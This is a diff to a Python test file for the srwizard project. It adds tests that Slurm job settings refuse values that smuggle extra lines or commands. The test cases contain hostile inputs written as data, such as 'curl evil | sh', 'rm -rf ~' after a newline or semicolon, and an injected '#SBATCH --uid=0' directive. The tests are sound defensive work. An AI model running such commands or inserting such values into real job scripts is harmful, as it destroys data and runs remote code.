@@ -9,10 +9,19 @@ import pytest
 import yaml
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
+from pydantic import ValidationError
 
 from srwizard.base.errors import UsageError
 from srwizard.settings import run_config, yaml_file
-from srwizard.settings.run_config import FILE_NAME, UNSEALED, RunConfig, RunOutput, seal, write
+from srwizard.settings.run_config import (
+    FILE_NAME,
+    UNSEALED,
+    RunConfig,
+    RunOutput,
+    RunSlurm,
+    seal,
+    write,
+)
 from tests.configs import MADE_UP_DATA, made_up_config
 
 SEALED = seal(made_up_config())
@@ -256,3 +265,35 @@ def test_the_global_batch_counts_processes_and_micro_batches() -> None:
     config.training.batch_size, config.training.grad_accumulation = 4, 3
     config.devices.processes = 2
     assert config.global_batch == 24
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        {"partition": "short\ncurl evil | sh"},
+        {"account": "a\u2028b"},
+        {"time": "5:00\n#SBATCH --uid=0"},
+        {"memory": "1G; rm -rf ~"},
+        {"directives": ["--qos=high\nrm -rf ~"]},
+        {"directives": ["--comment=\x1b[2J"]},
+        {"cpus": 0},
+    ],
+)
+def test_no_value_for_slurm_begins_a_line_of_its_own(tmp_path: Path, asked: dict[str, Any]) -> None:
+    """A run config of somebody else's."""
+    write(seal(made_up_config(output=RunOutput(dir=str(tmp_path)))), tmp_path)
+    path = tmp_path / FILE_NAME
+    values = yaml.safe_load(path.read_text())
+    values["devices"]["slurm"] = asked
+    path.chmod(0o600)
+    path.write_text(yaml_file.dump(values))
+    assert f"devices.slurm.{next(iter(asked))}" in refusal(tmp_path)
+    with pytest.raises(ValidationError):
+        RunSlurm(**asked)
+
+
+def test_what_people_ask_slurm_for_is_taken() -> None:
+    RunSlurm(
+        partition="gpu,long-2", account="oce_42", time="1-12:30:00", memory="64G", cpus=8,
+        directives=["--qos=high", "--comment=两个字 x"],
+    )  # fmt: skip
